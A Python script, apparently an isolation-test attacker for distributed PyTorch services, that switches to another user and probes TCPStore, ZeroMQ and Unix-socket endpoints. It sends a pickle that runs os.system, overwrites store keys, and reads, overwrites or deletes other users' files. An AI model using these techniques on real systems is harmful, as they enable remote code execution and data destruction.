"""The attack: run as root with the id of a user, it becomes that user and attacks what belongs to others.

    python stranger.py < ORDER

ORDER is JSON: `user`, its id; `marker`, the file that a pickle of its makes where it is loaded; `ports`, a list of
[host, port]; `sockets`, names of Unix sockets; `paths`, files and folders. `until`, a file: repeat until it exists.

It prints JSON: what it has found out about each port, and what it has read at each socket and path.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import json
import os
import pickle
import select
import socket
import struct
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import torch  # noqa: F401 - before the user is another one, who may not read it
import zmq
from torch._C._distributed_c10d import TCPStore

_WAIT_S = 0.2
"a".encode("idna")  # a module that another user may not be able to read

# What a TCPStore and ZeroMQ say first. Sources: torch/csrc/distributed/c10d/TCPStoreBackend.cpp (VALIDATE, PING),
# https://rfc.zeromq.org/spec/23/
_STORE_PING = struct.pack("<BIBI", 0, 0x3C85F7CE, 13, 4711)
_ZMQ_GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
# Hellos of clients: a store's, a kept session's, a rank's, gloo's peers.
_HELLOS = (
    struct.pack("<II", 8, 4) + b"keys",
    struct.pack("<I", 64) + bytes(64),
    b'{"want": "stop", "secret": "guessed"}\n',
    b'{"wire": 1, "who": "somebody", "takes": true}\n',
    *(struct.pack("<Q", number) for number in range(4)),
    b"GET / HTTP/1.1\r\n\r\n",
    b"\xff" * 512,
    b"\x01",
)


class Planted:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.marker}",)


class Attack:
    """What one user tries.

    Args:
        order: see the module.
    """

    def __init__(self, order: dict[str, Any]) -> None:
        self.planted = pickle.dumps(Planted(order["marker"]))
        self.ports, self.sockets, self.paths = order["ports"], order["sockets"], order["paths"]

    def run(self) -> dict[str, Any]:
        with concurrent.futures.ThreadPoolExecutor(32) as pool:
            ports = pool.map(lambda at: self.attack_port(*at), self.ports)
            sockets = pool.map(self.attack_socket, self.sockets)
            paths = pool.map(self.attack_path, self.paths)
            return {
                "ports": {f"{host}:{port}": said for (host, port), said in zip(self.ports, ports, strict=True)},
                "sockets": dict(zip(self.sockets, sockets, strict=True)),
                "paths": dict(zip(self.paths, paths, strict=True)),
            }

    # ---- ports

    def attack_port(self, host: str, port: int) -> dict[str, Any]:
        protocol = _protocol(host, port)
        read = [_exchange(socket.AF_INET, (host, port), sent) for sent in (b"", *_HELLOS, self.planted)]
        said: dict[str, Any] = {"protocol": protocol, "read": sorted({one for one in read if one})}
        if protocol == "TCPStore":
            said["keys"] = self._attack_store(host, port)
        if protocol.startswith("ZeroMQ"):
            said["read"] = [*self._attack_zmq(host, port)]
        return said

    def _attack_store(self, host: str, port: int) -> list[str]:
        """Replace the values of all keys."""
        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
        keys = store.list_keys()
        for key in keys:
            store.set(key, self.planted)  # type: ignore[arg-type]  # torch's stub: text only
        return keys

    def _attack_zmq(self, host: str, port: int) -> list[str]:
        """Speak without keys, and with keys of its own."""
        context, answers = zmq.Context(), []
        for kind in (zmq.DEALER, zmq.SUB, zmq.REQ):
            for has_keys in (False, True):
                with context.socket(kind) as client:
                    client.linger = 0
                    if has_keys:
                        client.curve_publickey, client.curve_secretkey = zmq.curve_keypair()
                        client.curve_serverkey, _ = zmq.curve_keypair()
                    client.connect(f"tcp://{host}:{port}")
                    if kind == zmq.SUB:
                        client.subscribe(b"")
                    else:
                        client.send_multipart([b"", self.planted, *_HELLOS], zmq.NOBLOCK)
                    if client.poll(1000 * _WAIT_S):
                        answers.append(client.recv()[:64].hex())
        context.destroy(linger=0)
        return answers

    # ---- Unix sockets and files

    def attack_socket(self, name: str) -> str:
        address = "\0" + name[1:] if name.startswith("@") else name
        return " ".join(
            sorted({_exchange(socket.AF_UNIX, address, sent) for sent in (b"", *_HELLOS, self.planted)} - {""})
        )

    def attack_path(self, path: str) -> str:
        """Read it, replace it and put a file next to it."""
        done = []
        with contextlib.suppress(OSError):
            Path(path).stat()
            done.append("seen")
        with contextlib.suppress(OSError):
            os.listdir(path) if os.path.isdir(path) else Path(path).read_bytes()
            done.append("read")
        for replace in (self._overwrite, self._unlink, self._add):
            with contextlib.suppress(OSError):
                replace(path)
                done.append("replaced")
        return " ".join(done)

    def _overwrite(self, path: str) -> None:
        if os.path.isdir(path):
            raise IsADirectoryError
        with open(path, "r+b") as file:
            file.write(self.planted)

    def _unlink(self, path: str) -> None:
        os.unlink(path)

    def _add(self, path: str) -> None:
        Path(path, "planted").write_bytes(self.planted)


def _exchange(family: int, address: Any, sent: bytes) -> str:
    """Send something on a connection. Returns what was read, in hexadecimal digits; "refused", "closed" or ""."""
    try:
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(_WAIT_S)
            one.connect(address)
            try:
                one.sendall(sent)
                return one.recv(4096)[:64].hex() or "closed"
            except TimeoutError:
                return ""
            except OSError:
                return "closed"
    except OSError:
        return "refused"


def _protocol(host: str, port: int) -> str:
    """What listens there, by what it says."""
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=_WAIT_S) as one:
        first = _receive(one)
        if first[:1] == b"\xff" and first[9:10] == b"\x7f":
            one.sendall(_ZMQ_GREETING)
            rest = first
            while len(rest) < 32 and (more := _receive(one)):
                rest += more
            return f"ZeroMQ {rest[12:32].strip(bytes(1)).decode()}"
        if len(first) == 36 and struct.unpack("<I", first[:4])[0] == 32:
            return "store with a key"
        if first.startswith(b"SSH-"):
            return "ssh"
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=_WAIT_S) as one:
        one.sendall(_STORE_PING)
        if _receive(one) == struct.pack("<I", 4711):
            return "TCPStore"
    return "silent"


def _receive(one: socket.socket) -> bytes:
    if not select.select([one], [], [], _WAIT_S)[0]:
        return b""
    with contextlib.suppress(OSError):
        return one.recv(4096)
    return b""


def main() -> None:
    order = json.load(sys.stdin)
    os.setgroups([])
    os.setgid(order["user"])
    os.setuid(order["user"])
    attack = Attack(order)
    said = attack.run()
    while order.get("until") and not os.path.exists(order["until"]):
        said = attack.run()
    json.dump(said, sys.stdout)


if __name__ == "__main__":
    main()
